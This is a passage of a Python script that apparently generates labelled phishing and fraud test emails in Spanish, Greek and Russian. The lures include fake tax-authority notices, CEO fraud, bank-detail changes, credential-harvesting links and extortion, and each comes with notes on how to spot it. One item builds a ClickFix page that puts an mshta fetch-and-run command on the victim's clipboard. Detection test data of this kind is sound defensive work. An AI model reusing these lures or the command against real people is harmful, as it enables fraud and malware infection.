  why='Impersonation of the new mandatory e-delivery service (genuine notices come from gov.pl and point to edoreczenia.gov.pl, compare business/26); look-alike domain with "-gov"; Amazon SES bulk; deemed-delivery pressure.',
  mailfrom='0102019369c5d1aa-2f9e7c41-5a0b-4ad1-9e3c-7b2d6f0e1a55-000000@eu-west-1.amazonses.com', rcpt='marta.wisniewska@example.com', date=_d,
  helo='a4-20.smtp-out.eu-west-1.amazonses.com', rdns='a4-20.smtp-out.eu-west-1.amazonses.com', ip='54.240.4.20', tls='TLSv1.3',
  frm=('e-Doręczenia', 'powiadomienia@e-doreczenia-gov.pl'), to=ST('wisniewska'),
  subject='Nowa przesyłka w skrzynce do doręczeń elektronicznych',
  msgid='0102019369c5d1aa-2f9e7c41-5a0b-4ad1-9e3c-7b2d6f0e1a55-000000@eu-west-1.amazonses.com',
  extra=[('Feedback-ID', '::1.eu-west-1.p2Xq9Lr0m8c1Vb5kYw7sT3nZ+gH0eQ1u6fJ4aD2kR8M=:AmazonSES'), ('X-SES-Outgoing', '2026.11.27-54.240.4.20')],
  body=MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(_html, 'html', cs='UTF-8', quote_cs=False)], _s, 'bulk'))

# ===========================================================================
# Spanish attacks
# ===========================================================================

# --- 27 es: fake AEAT requirement with ZIP (MSI placeholder) -----------------
_s = 'attack/27'
_d = D('11-10 12:33:21')
M(dir='attack', file='27-es-aeat-requerimiento-zip', lang='es', charset='ISO-8859-1 (QP) + ZIP',
  desc='Fake Agencia Tributaria requirement about Modelo 347 discrepancies with a ZIP "requerimiento" containing an .msi (inert placeholder for an installer-based loader).',
  why='AEAT never sends notifications as attachments (only "avisos" pointing to the Sede / DEHú, compare business/28); look-alike sender aeat-notificaciones.es on a host without matching rDNS; archive with executable installer; sanction threat.',
  mailfrom='notificaciones@aeat-notificaciones.es', rcpt='javier.moreno@example.com', date=_d,
  helo='aeat-notificaciones.es', rdns=None, ip='185.225.74.231', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Agencia Tributaria', 'notificaciones@aeat-notificaciones.es'), to=ST('moreno'),
  subject='Notificación: requerimiento de información Modelo 347 - Ref. 2026GRC84721904X',
  msgid='%s@aeat-notificaciones.es' % H(_s, 24, UPHEX), hcs='ISO-8859-1',
  body=MP('mixed', [
      T('''Estimado/a contribuyente:

Le comunicamos que la Agencia Estatal de Administración Tributaria ha puesto a su disposición una notificación relativa al procedimiento de comprobación de las operaciones con terceras personas (Modelo 347) correspondientes al ejercicio 2025.

NIF: %s
Referencia: 2026GRC84721904X
Plazo de atención: 10 días hábiles desde la recepción

Se han detectado discrepancias entre las operaciones declaradas por su entidad y las imputadas por sus proveedores y clientes. Puede descargar el requerimiento y el detalle de las discrepancias en el archivo adjunto.

Transcurrido el plazo sin atender el requerimiento, se podrá iniciar el correspondiente procedimiento sancionador conforme a lo dispuesto en la Ley 58/2003, General Tributaria.

Atentamente,

Agencia Tributaria
Departamento de Gestión Tributaria
''' % EG_CIF, cs='ISO-8859-1'),
      ATT(zip_bytes([('Requerimiento_2026GRC84721904X.msi', INERT)], (2026, 11, 10, 12, 20, 0)),
          'application/x-zip-compressed', 'Requerimiento_2026GRC84721904X.zip'),
  ], _s, 'std'))

# --- 28 es: CEO fraud from Gmail (country director) --------------------------
_s = 'attack/28'
_d = D('11-13 09:51:40')
_inf = gmail_infra(_s, _d, 'javier.moreno@example.com')
_txt = '''Javier, ¿estás en la oficina?

Necesito que me gestiones hoy una transferencia a un proveedor nuevo para la obra de Valdebebas. El acuerdo se ha cerrado esta mañana y tienen que empezar el lunes con el acopio de material. Es un tema delicado con la dirección en Alemania, así que de momento no lo comentes con nadie, ni siquiera con Lucía.

Te paso los datos:

Beneficiario: Suministros Integrales Levante S.L.
IBAN: %s
Importe: 38.750,00 €
Concepto: Anticipo pedido 2026/118

Te escribo desde el correo personal porque estoy en el coche y el móvil no me sincroniza el de la empresa. Confírmame por aquí cuando esté hecha y mándame el justificante.

Gracias,
Carlos

Enviado desde mi iPhone
''' % iban_fmt(ATK_ES_CEO_IBAN)
M(dir='attack', file='28-es-fraude-del-ceo-gmail', lang='es', charset='UTF-8 (QP), multipart/alternative',
  desc='CEO fraud: "Carlos Ruiz" (country director) from a Gmail address asks the accountant for an urgent, secret advance payment of 38.750 EUR to a new supplier.',
  why='Executive impersonation from a free mailer (carlos.ruiz.direccion@gmail.com), new unknown beneficiary %s, secrecy even from colleagues, excuse for using private mail, request for the transfer receipt.' % iban_fmt(ATK_ES_CEO_IBAN),
  infra=_inf, mailfrom='carlos.ruiz.direccion@gmail.com', rcpt='javier.moreno@example.com', date=_d,
  frm=('Carlos Ruiz', 'carlos.ruiz.direccion@gmail.com'), to=ST('moreno'),
  subject='Pago urgente',
  order=['MIME-Version', 'From', 'Date', 'Message-ID', 'Subject', 'To'],
  body=MP('alternative', [T(_txt, cs='UTF-8', quote_cs=False), T(gmail_html(_txt), 'html', cs='UTF-8', quote_cs=False)], _s, 'gmail'))

# --- 29 es: Hormigones del Tajo bank change from hotmail ----------------------
_s = 'attack/29'
_d = D('11-19 10:05:12')
M(dir='attack', file='29-es-hormigones-cambio-cuenta-hotmail', lang='es', charset='ISO-8859-15 (QP)',
  desc='Supplier bank-detail change from a "provisional" Hotmail address of the concrete supplier: pay 27.486,90 EUR of open invoices to a new BBVA account.',
  why='Free-mailer sender (hormigonesdeltajo.admon@hotmail.com) with excuse "our mail server is broken", new IBAN %s instead of the known CaixaBank account, confirmation requested through the same channel.' % iban_fmt(ATK_HORM_IBAN),
  infra=outlookcom_infra(_s, _d, 'lucia.fernandez@example.com'),
  mailfrom='hormigonesdeltajo.admon@hotmail.com', rcpt='lucia.fernandez@example.com', date=_d,
  frm=('Hormigones del Tajo - Administración', 'hormigonesdeltajo.admon@hotmail.com'), to=ST('fernandez'),
  subject='Cambio de cuenta bancaria - Hormigones del Tajo S.L.', hcs='iso-8859-15',
  extra=[('Content-Language', 'es-ES'), ('X-MS-Has-Attach', ''), ('X-MS-TNEF-Correlator', '')],
  body=T('''Buenos días, Lucía:

Le escribimos desde esta dirección provisional porque desde la semana pasada estamos teniendo problemas con el servidor de correo de la empresa y no podemos enviar desde la cuenta habitual.

Le informamos de que, por cambio de entidad bancaria, las facturas pendientes y las futuras deben abonarse en la siguiente cuenta a nombre de Hormigones del Tajo S.L.:

BBVA
IBAN: %s
BIC: BBVAESMMXXX

Le agradeceríamos que tramitase por esta cuenta las facturas 2026/F-1093 y 2026/F-1127, con vencimiento 30/11/2026, por un importe total de 27.486,90 €. La cuenta anterior de CaixaBank quedará cancelada a final de mes.

Por favor, confírmeme por este correo cuando lo hayan actualizado.

Un saludo,

Raúl Ortega
Dpto. Comercial
Hormigones del Tajo S.L.
Pol. Ind. Santa María de Benquerencia, C/ Río Jarama 118 - 45007 Toledo
''' % iban_fmt(ATK_HORM_IBAN), cs='iso-8859-15'))

# --- 30 es: fake public-procurement platform invitation ---------------------
_s = 'attack/30'
_d = D('11-30 09:02:45')
_url = 'https://contrataciondelestado-licitaciones.com/wps/portal/licitacion?exp=2026CON00871&t=' + H(_s, 16, B62)
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#222222;margin:0">
<div style="background:#1a3a6b;color:#ffffff;padding:14px 22px;font-size:17px">Plataforma de Contratación del Sector Público</div>
<div style="padding:20px 22px;max-width:640px">
<p><b>Notificación de invitación a presentar oferta</b></p>
<p>El órgano de contratación <b>Ayuntamiento de Alcobendas &ndash; Área de Obras y Mantenimiento</b> le invita a presentar oferta en el siguiente procedimiento:</p>
<table cellpadding="4" style="font-size:13px;border-collapse:collapse">
<tr><td style="color:#555">Expediente:</td><td>2026/CON/00871</td></tr>
<tr><td style="color:#555">Objeto:</td><td>Obras de rehabilitación energética y accesibilidad del CEIP Miguel Hernández</td></tr>
<tr><td style="color:#555">Procedimiento:</td><td>Abierto simplificado</td></tr>
<tr><td style="color:#555">Valor estimado:</td><td>1.184.306,12 &euro; (IVA excluido)</td></tr>
<tr><td style="color:#555">Fin de plazo:</td><td>12/12/2026 14:00</td></tr></table>
<p>Para acceder a los pliegos y presentar su oferta, identifíquese en la Plataforma con su usuario de empresa:</p>
<p><a href="%s" style="background:#c8102e;color:#ffffff;padding:9px 18px;text-decoration:none">Acceder al expediente</a></p>
<p style="font-size:11px;color:#777777">Este mensaje ha sido generado automáticamente por la Plataforma de Contratación del Sector Público. No responda a este correo.</p>
</div></body></html>
''' % _url
M(dir='attack', file='30-es-licitacion-plataforma-contratacion-falsa', lang='es', charset='UTF-8 (QP), HTML-only',
  desc='Fake public-procurement invitation (Plataforma de Contratación del Sector Público) for a school refurbishment worth 1,18 M EUR; "Acceder al expediente" leads to a credential page.',
  why='Sector-specific lure for a contractor; link and sender on contrataciondelestado-licitaciones.com (genuine: contrataciondelestado.es); bulk sent via Mailjet; login harvesting.',
  mailfrom='bnc3.mailjet+' + H(_s, 10) + '@bnc3.mailjet.com', rcpt='carlos.ruiz@example.com', date=_d,
  helo='o163.p8.mailjet.com', rdns='o163.p8.mailjet.com', ip='87.253.233.163', tls='TLSv1.3',
  frm=('Plataforma de Contratación del Sector Público', 'avisos@contrataciondelestado-licitaciones.com'), to=ST('ruiz'),
  subject='Invitación a presentar oferta - Expediente 2026/CON/00871',
  msgid='%s.%s@mailjet.com' % (H(_s + 'a', 8), H(_s + 'b', 16)),
  extra=[('X-CSA-Complaints', 'csa-complaints@eco.de'), ('X-MJ-Mid', H(_s + 'mj', 40, B62)), ('X-Mailjet-Campaign', '5821034')],
  body=T(_html, 'html', cs='UTF-8'))

# --- 31 es: ClickFix HTML attachment from compromised crane-hire firm --------
_s = 'attack/31'
_d = D('12-03 16:24:18')
_cmd = 'mshta https://gc-verificacion.com/fv?i=3318 # Verificacion reCAPTCHA ID: 3318'
_att = '''<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>FV26-3318.pdf</title>
<style>body{margin:0;background:#525659;font-family:Roboto,Arial,sans-serif}
.doc{filter:blur(5px);width:640px;height:820px;margin:30px auto;background:#fff}
.ov{position:fixed;top:0;left:0;right:0;bottom:0;display:flex;align-items:center;justify-content:center}
.box{background:#fff;width:420px;padding:24px 28px;border-radius:6px;box-shadow:0 2px 12px rgba(0,0,0,.4)}
.btn{background:#1a73e8;color:#fff;border:0;padding:10px 18px;border-radius:4px;font-size:15px;cursor:pointer}
ol{padding-left:20px;line-height:26px}</style></head><body>
<div class="doc"></div>
<div class="ov"><div class="box">
<h3>Verificación de seguridad</h3>
<p>Este documento está protegido. Confirme que no es un robot para visualizar la factura.</p>
<button class="btn" onclick="navigator.clipboard.writeText(document.getElementById('c').textContent);document.getElementById('s').style.display='block'">No soy un robot</button>
<div id="s" style="display:none"><p>Pasos de verificación:</p><ol>
<li>Pulse la tecla <b>Windows + R</b></li><li>Pulse <b>Ctrl + V</b></li><li>Pulse <b>Intro</b></li></ol></div>
<span id="c" style="display:none">%s</span>
</div></div></body></html>
''' % _cmd
M(dir='attack', file='31-es-factura-grua-clickfix-html', lang='es', charset='UTF-8 (8bit) + HTML attachment',
  desc='Invoice for mobile-crane hire from a (compromised) genuine crane company; the HTML "invoice" is a ClickFix page: fake CAPTCHA copies an mshta command to the clipboard and tells the user to paste it into Win+R.',
  why='ClickFix social engineering (2025-26 trend) hides the payload in user-executed clipboard content; sent from a compromised cPanel mailbox (attacker IP in lower hop); HTML attachment instead of PDF; command targets gc-verificacion.com (inert here, no payload exists).',
  mailfrom='facturacion@gruas-castellanas.es', rcpt='javier.moreno@example.com', date=_d,
  helo='srv178.hostingcpanel.es', rdns='srv178.hostingcpanel.es', ip='82.98.134.178', tls='TLSv1.3',
  received=['from [196.251.83.117] (port=52144 helo=[192.168.1.34])\n\tby srv178.hostingcpanel.es with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98.2)\n\t(envelope-from <facturacion@gruas-castellanas.es>)\n\tid 1vQrT2-0000Kq-1m\n\tfor javier.moreno@example.com; %s' % fmt(plus(_d, 1))],
  frm=('Grúas Castellanas - Facturación', 'facturacion@gruas-castellanas.es'), to=ST('moreno'),
  subject='Factura FV26-3318 - alquiler grúa autopropulsada noviembre',
  msgid='%s@gruas-castellanas.es' % H(_s, 30, B62),
  extra=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'es-ES')],
  body=MP('mixed', [
      T('''Buenas tardes:

Adjuntamos la factura FV26-3318 correspondiente al alquiler de la grúa autopropulsada de 60 t con operador en la obra de Valdebebas (días 3 a 21 de noviembre).

Vencimiento: 30 días fecha factura.

Un saludo,

Administración
Grúas Castellanas S.L.
Tel. 918 843 117
''', cs='UTF-8', cte='8bit', quote_cs=False, ctparams='; format=flowed'),
      ATT(_att.encode('utf-8'), 'text/html', 'FV26-3318.html'),
  ], _s, 'tb'))

# ===========================================================================
# Greek attacks
# ===========================================================================

# --- 32 el: fake AADE myDATA discrepancy notice -----------------------------
_s = 'attack/32'
_d = D('11-12 09:18:30', EET)
_url = 'https://www1-aade.gr-mydata.com/taxisnet/login?ref=' + H(_s, 18, B62)
_txt = '''Αξιότιμε/η φορολογούμενε,

Σας ενημερώνουμε ότι κατά τη διασταύρωση των δεδομένων της πλατφόρμας myDATA εντοπίστηκαν αποκλίσεις μεταξύ των παραστατικών που έχουν διαβιβαστεί από την επιχείρησή σας και των αντίστοιχων χαρακτηρισμών των αντισυμβαλλομένων για την περίοδο Σεπτεμβρίου - Οκτωβρίου 2026.

ΑΦΜ: %s
Αριθμός αποκλίσεων: 17
Προθεσμία διόρθωσης: 5 εργάσιμες ημέρες

Για να δείτε αναλυτικά τις αποκλίσεις και να προβείτε στις απαραίτητες διορθώσεις, συνδεθείτε με τους κωδικούς σας TAXISnet:

%s

Σε περίπτωση μη διόρθωσης εντός της προθεσμίας θα επιβληθούν τα πρόστιμα που προβλέπονται από τον Κώδικα Φορολογικής Διαδικασίας.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης
''' % (EG_AFM, _url)
M(dir='attack', file='32-el-aade-mydata-apokliseis', lang='el', charset='ISO-8859-7 (QP), multipart/alternative',
  desc='Fake AADE (Greek tax authority) myDATA notice: 17 discrepancies in transmitted invoices, TAXISnet login link, 5-day deadline and fine threat.',
  why='Authority impersonation with topical e-invoicing lure; link host www1-aade.gr-mydata.com imitates www1.aade.gr; sender domain aade-mydata.com; no personalisation beyond the (public) VAT number; credential theft.',
  mailfrom='noreply@aade-mydata.com', rcpt='nikos.georgiou@example.com', date=_d,
  helo='mail.aade-mydata.com', rdns='vmi2291847.contaboserver.net', ip='164.68.121.37', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('ΑΑΔΕ - myDATA', 'noreply@aade-mydata.com'), to=ST('georgiou'),
  subject='Ειδοποίηση ΑΑΔΕ: Αποκλίσεις στα διαβιβασμένα παραστατικά myDATA - Απαιτείται ενέργεια',
  msgid='%s@aade-mydata.com' % H(_s, 28), hcs='ISO-8859-7', henc='B',
  extra=[('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)')],
  body=MP('alternative', [T(_txt, cs='ISO-8859-7'),
                          T(plain_html(_txt, cs='ISO-8859-7').replace(_html_esc(_url), '<a href="%s">Σύνδεση στο TAXISnet</a>' % _url), 'html', cs='ISO-8859-7')],
          _s, 'php'))

# --- 33 el: Aigaio Metal bank change from look-alike domain -----------------
_s = 'attack/33'
_d = D('11-20 13:12:09', EET)
M(dir='attack', file='33-el-aigaio-allagi-logariasmou-lookalike', lang='el', charset='windows-1253 (QP) + PDF',
  desc='Supplier bank-detail change: "Γιώργος Αντωνίου, Aigaio Metal" says the Piraeus account is frozen and asks to pay two invoices (41.862,30 EUR) to a new Eurobank IBAN.',
  why='Look-alike domain aigaio-metals.gr (genuine: aigaio-metal.gr) on Zoho; new IBAN %s; "can\'t talk on the phone, confirm by e-mail" blocks call-back verification.' % iban_fmt(ATK_AIG_IBAN),
  mailfrom='g.antoniou@aigaio-metals.gr', rcpt='nikos.georgiou@example.com', date=_d,
  helo='sender4-op-o15.zoho.eu', rdns='sender4-op-o15.zoho.eu', ip='185.20.209.15', tls='TLSv1.3',
  frm=('Γιώργος Αντωνίου', 'g.antoniou@aigaio-metals.gr'), to=ST('georgiou'),
  subject='Αλλαγή τραπεζικού λογαριασμού – ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε.',
  msgid='%s.%s@aigaio-metals.gr' % (H(_s, 13), HN(_s, 10 ** 12, 10 ** 13)), hcs='windows-1253',
  extra=[('User-Agent', 'Zoho Mail'), ('X-Mailer', 'Zoho Mail')],
  body=MP('mixed', [
      T('''Καλησπέρα σας κύριε Γεωργίου,

Σας ενημερώνουμε ότι, λόγω εσωτερικού ελέγχου της τράπεζας, ο λογαριασμός μας στην Τράπεζα Πειραιώς είναι προσωρινά δεσμευμένος και δεν μπορεί να δεχτεί εισερχόμενα εμβάσματα έως το τέλος του έτους.

Παρακαλούμε η εξόφληση των τιμολογίων ΤΔΑ 2026/1184 και ΤΔΑ 2026/1207 (σύνολο 41.862,30 €) να γίνει στον νέο λογαριασμό της εταιρείας μας:

Τράπεζα: Eurobank
Δικαιούχος: ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε.
IBAN: %s

Σας επισυνάπτω τη σχετική βεβαίωση της τράπεζας. Παρακαλώ επιβεβαιώστε μου με email μόλις καταχωρήσετε την αλλαγή, γιατί είμαι σε συσκέψεις όλη την ημέρα και δεν μπορώ να μιλήσω στο τηλέφωνο.

Με εκτίμηση,

Γιώργος Αντωνίου
Υπεύθυνος Πωλήσεων
ΑΙΓΑΙΟ ΜΕΤΑΛΛΙΚΕΣ ΚΑΤΑΣΚΕΥΕΣ Α.Ε.
Λεωφ. ΝΑΤΟ 112, 19300 Ασπρόπυργος
Τηλ. 210 5591 430
''' % iban_fmt(ATK_AIG_IBAN), cs='windows-1253'),
      ATT(pdf_doc(['#Eurobank - Vevaiosi anoigmatos logariasmou', '', 'Dikaiouchos: AIGAIO METALLIKES KATASKEVES A.E.',
                   'IBAN: ' + iban_fmt(ATK_AIG_IBAN), '', 'Athina, 18/11/2026'], 'Vevaiosi'),
          'application/pdf', 'Βεβαίωση_Eurobank.pdf', fn_style='2047'),
  ], _s, 'bulk'))

# --- 34 el: fake ACS courier with QR -----------------------------------------
_s = 'attack/34'
_d = D('11-24 18:40:51', EET)
_qr34 = 'https://acs-gr-delivery.com/t/7234119052?r=' + H(_s, 8, B62)
QR_PAYLOADS['34-el-acs-courier-qr'] = _qr34
_cid = 'qr7234119052@acs-gr-delivery.com'
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222;margin:0;background:#f4f4f4">
<div style="max-width:560px;margin:0 auto;background:#ffffff">
<div style="background:#e2001a;color:#ffffff;padding:16px 22px;font-size:22px;font-weight:bold">ACS Courier</div>
<div style="padding:22px">
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>7234119052</b> δεν ήταν δυνατό να παραδοθεί λόγω ελλιπών στοιχείων διεύθυνσης.</p>
<p>Για να προγραμματιστεί νέα παράδοση, επιβεβαιώστε τα στοιχεία σας και εξοφλήστε το τέλος επαναποστολής <b>1,90 €</b> έως <b>26/11/2026</b>.</p>
<p>Σαρώστε τον κωδικό QR με το κινητό σας:</p>
<p style="text-align:center"><img src="cid:%s" width="180" height="180" alt="QR"></p>
<p style="font-size:12px;color:#666">Μετά την παρέλευση της προθεσμίας η αποστολή επιστρέφεται στον αποστολέα.</p>
</div></div></body></html>
''' % _cid
M(dir='attack', file='34-el-acs-courier-qr', lang='el', charset='UTF-8 (base64), HTML + inline QR PNG',
  desc='Fake ACS Courier failed-delivery notice asking for a 1,90 EUR redelivery fee; the only action is an inline QR code to a card-harvesting page.',
  why='Courier brand impersonation from an unrelated domain via a residential IP without rDNS; payload URL only in a QR image (%s); small-fee card theft.' % _qr34,
  mailfrom='info@acs-gr-delivery.com', rcpt='eleni.papadopoulou@example.com', date=_d,
  helo='acs-gr-delivery.com', rdns=None, ip='177.54.148.203', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('ACS Courier', 'info@acs-gr-delivery.com'), to=ST('papadopoulou'),
  subject='Η αποστολή σας 7234119052 δεν παραδόθηκε - απαιτείται επιβεβαίωση στοιχείων',
  msgid='%s@acs-gr-delivery.com' % H(_s, 20), henc='B',
  body=MP('related', [T(_html, 'html', cs='UTF-8', cte='base64'),
                      ATT(qr_png(_qr34, scale=5), 'image/png', 'qr.png', inline=True, cid=_cid)], _s, 'std',
          extra=';\n\ttype="text/html"'))

# --- 35 el: data-leak extortion with legacy BTC address ----------------------
_s = 'attack/35'
_d = D('11-29 02:14:07', UTC)
M(dir='attack', file='35-el-ekviasmos-diarroi-dedomenon-btc', lang='el', charset='UTF-8 (8bit)',
  desc='Data-theft extortion against the Greek entity: claims 214 GB exfiltrated via the Athens VPN, demands 0,85 BTC to %s within 72 h.' % BTC_LEGACY,
  why='Extortion from an anonymous mail service (Tuta), no proof, generic claims (contracts, payroll, ID copies), GDPR-fine pressure, "do not contact police"; valid Base58Check address.',
  mailfrom='dr.notice@tutamail.com', rcpt='konstantinos.dimitriou@examplegroup.eu', date=_d,
  helo='w1.tutanota.de', rdns='w1.tutanota.de', ip='81.3.6.162', tls='TLSv1.3',
  frm=('Data Recovery', 'dr.notice@tutamail.com'), to=ST('dimitriou'),
  subject='Τα δεδομένα της εταιρείας σας - τελευταία ειδοποίηση πριν τη δημοσίευση',
  msgid='%s@tutanota.de' % H(_s, 20, B62 + '-_'),
  body=T('''Προς τη διοίκηση της Example Group Ελλάς,

Αποκτήσαμε πρόσβαση στο δίκτυό σας μέσω του VPN του γραφείου της Αθήνας και αντιγράψαμε 214 GB δεδομένων: συμβάσεις με υπεργολάβους, μισθοδοσίες, αντίγραφα ταυτοτήτων εργαζομένων, προσφορές διαγωνισμών και αλληλογραφία της διοίκησης.

Δεν κρυπτογραφήσαμε τίποτα. Αν δεν καταβληθεί το ποσό των 0,85 BTC στη διεύθυνση

%s

εντός 72 ωρών, το υλικό θα δημοσιευθεί και θα σταλεί στους πελάτες σας, στην Αρχή Προστασίας Δεδομένων και σε δημοσιογράφους. Το πρόστιμο κατά τον GDPR θα είναι πολλαπλάσιο του ποσού που ζητάμε.

Ως απόδειξη μπορείτε να ζητήσετε τρία τυχαία αρχεία. Μην απευθυνθείτε στην αστυνομία ή σε εταιρείες ασφαλείας, παρακολουθούμε το δίκτυό σας.

Επικοινωνία μόνο απαντώντας σε αυτό το μήνυμα.
''' % BTC_LEGACY, cs='UTF-8', cte='8bit'))

# --- 36 el: CEO fraud - move to WhatsApp (Yahoo) -----------------------------
_s = 'attack/36'
_d = D('12-02 09:26:40', EET)
M(dir='attack', file='36-el-apati-ceo-whatsapp-yahoo', lang='el', charset='UTF-8 (QP)',
  desc='CEO fraud, first stage: "Κωνσταντίνος Δημητρίου" (Greek country manager) from Yahoo asks the accountant for his mobile number to move to a WhatsApp group with a "lawyer" about a confidential payment.',
  why='Executive impersonation from a free mailer (k.dimitriou.eg@yahoo.com), secrecy, unavailable by phone, channel switch to WhatsApp to escape mail controls; no link or attachment.',
  mailfrom='k.dimitriou.eg@yahoo.com', rcpt='nikos.georgiou@example.com', date=_d,
  helo='sonic311-24.consmr.mail.ir2.yahoo.com', rdns='sonic311-24.consmr.mail.ir2.yahoo.com', ip='77.238.176.155', tls='TLSv1.3',
  received=['from sonic.gate.mail.ne1.yahoo.com by sonic311-24.consmr.mail.ir2.yahoo.com with HTTP; %s' % fmt(plus(_d, 1, UTC))],
  frm=('Κωνσταντίνος Δημητρίου', 'k.dimitriou.eg@yahoo.com'), to=ST('georgiou'),
  subject='Επείγον',
  msgid='%d.%d.%d@mail.yahoo.com' % (HN(_s, 10 ** 8, 10 ** 9), HN(_s + 'a', 10 ** 6, 10 ** 7), 1764660400000 + HN(_s, 0, 999)),
  order=['Date', 'From', 'To', 'Message-ID', 'Subject'],
  extra=[('X-Mailer', 'WebService/1.1.24675 YahooMailIosMobile')],
  body=T('''Νίκο καλημέρα,

Είσαι στο γραφείο; Πρέπει να γίνει σήμερα μια πληρωμή για το έργο στο Μαρούσι. Το θέμα είναι εμπιστευτικό μέχρι να ανακοινωθεί από τη Φρανκφούρτη.

Στείλε μου τον αριθμό του κινητού σου να σε βάλω σε μια ομάδα στο WhatsApp με τον δικηγόρο που χειρίζεται τη συμφωνία. Είμαι σε σύσκεψη όλο το πρωί και δεν μπορώ να μιλήσω.

Μην το συζητήσεις με κανέναν προς το παρόν.

Κωνσταντίνος

Στάλθηκε από το iPhone μου
''', cs='UTF-8', quote_cs=False))

# ===========================================================================
# Russian attacks
# ===========================================================================

# --- 37 ru: fake tax-office requirement with ZIP -----------------------------
_s = 'attack/37'
_d = D('11-23 11:47:25', MSK)
M(dir='attack', file='37-ru-fns-trebovanie-zip', lang='ru', charset='windows-1251 (base64) + ZIP',
  desc='Fake FNS (tax service) requirement to explain VAT discrepancies (Art. 88 Tax Code) with a ZIP containing "Требование_18-27-4417.pdf.scr" (inert placeholder for a RAT).',
  why='FNS delivers requirements through EDO operators, never as mail attachments; sender domain fns-nalog.ru is not nalog.gov.ru; VPS host; archive with screensaver executable behind a double extension; deadline and penalty threat.',
  mailfrom='uvedomlenie@fns-nalog.ru', rcpt='dmitry.volkov@example.com', date=_d,
  helo='fns-nalog.ru', rdns='v231419.hosted-by-vdsina.ru', ip='45.87.153.71', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('ФНС России', 'uvedomlenie@fns-nalog.ru'), to=ST('volkov'),
  subject='Требование о представлении пояснений № 18-27/4417 (ст. 88 НК РФ)',
  msgid='%s@fns-nalog.ru' % H(_s, 26), hcs='windows-1251', henc='B',
  body=MP('mixed', [
      T('''Уважаемый налогоплательщик!

В ходе камеральной налоговой проверки налоговой декларации по НДС за 3 квартал 2026 года выявлены расхождения между сведениями об операциях, содержащимися в декларации, и сведениями, представленными Вашими контрагентами.

ИНН: %s
Номер требования: 18-27/4417
Дата: 23.11.2026

В соответствии с п. 3 ст. 88 Налогового кодекса Российской Федерации Вам необходимо в течение пяти рабочих дней представить пояснения или внести исправления в налоговую декларацию. Непредставление пояснений в установленный срок влечёт ответственность по ст. 129.1 НК РФ.

Требование и перечень расхождений прилагаются в архиве.

С уважением,
Межрайонная ИФНС России № 46 по г. Москве
''' % EG_INN, cs='windows-1251', cte='base64'),
      ATT(zip_bytes([('Требование_18-27-4417.pdf.scr', INERT)], (2026, 11, 23, 11, 30, 0)),
          'application/zip', 'Требование_18-27-4417.zip', fn_style='2047'),
  ], _s, 'std'))

# --- 38 ru: StroyKomplekt bank change from look-alike on Yandex 360 ---------
_s = 'attack/38'
_d = D('11-24 15:08:51', MSK)
M(dir='attack', file='38-ru-stroykomplekt-smena-rekvizitov-lookalike', lang='ru', charset='KOI8-R (QP) + PDF',
  desc='Supplier bank-detail change: "Елена Морозова, СтройКомплект" announces new Alfa-Bank details and asks to pay invoices 1187 and 1203 (1 284 600,00 руб.) there.',
  why='Look-alike domain stroykomplect.ru ("c" for "k") hosted on Yandex 360 (good reputation), correct INN copied from the real supplier, new account %s at BIK %s (valid control key), e-mail-only confirmation.' % (ATK_SK_RS, ATK_SK_BIK),
  mailfrom='e.morozova@stroykomplect.ru', rcpt='dmitry.volkov@example.com', date=_d,
  helo='forward102a.mail.yandex.net', rdns='forward102a.mail.yandex.net', ip='178.154.239.85', tls='TLSv1.3',
  received=['from mail-nwsmtp-smtp-production-main-81.sas.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-81.sas.yp-c.yandex.net [IPv6:2a02:6b8:c24:10ab:0:640:9c1e:0])\n\tby forward102a.mail.yandex.net (Yandex) with ESMTPS id 7F2C960B1E\n\tfor <dmitry.volkov@example.com>; %s' % fmt(plus(_d, 1, MSK))],
  frm=('Елена Морозова', 'e.morozova@stroykomplect.ru'), to=ST('volkov'), cc=ST('smirnova'),
  subject='Изменение банковских реквизитов ООО "СтройКомплект"',
  msgid='%d%s@mail.yandex.ru' % (HN(_s, 10 ** 5, 10 ** 6), H(_s, 5)), hcs='KOI8-R', henc='B',
  extra=[('X-Mailer', 'Yamail [ http://yandex.ru ] 5.0')],
  body=MP('mixed', [
      T('''Добрый день, Дмитрий!

Уведомляем Вас о том, что с 25.11.2026 г. в связи с переходом на обслуживание в другой банк у ООО "СтройКомплект" изменились банковские реквизиты. Расчётный счёт в ПАО Сбербанк будет закрыт.

Новые реквизиты:
Получатель: ООО "СтройКомплект"
ИНН %s
Р/с %s
Банк: АО "АЛЬФА-БАНК", г. Москва
БИК %s
К/с %s

Просим произвести оплату по счетам N 1187 от 09.11.2026 и N 1203 от 16.11.2026 (итого 1 284 600,00 руб., в т.ч. НДС) по новым реквизитам. Официальное письмо за подписью генерального директора во вложении.

Просьба подтвердить получение письма ответом на e-mail.

С уважением,
Елена Морозова
менеджер по работе с ключевыми клиентами
ООО "СтройКомплект"
тел. +7 (495) 748-31-20
''' % (ATK_SK_INN, ATK_SK_RS, ATK_SK_BIK, ATK_SK_KS), cs='KOI8-R'),
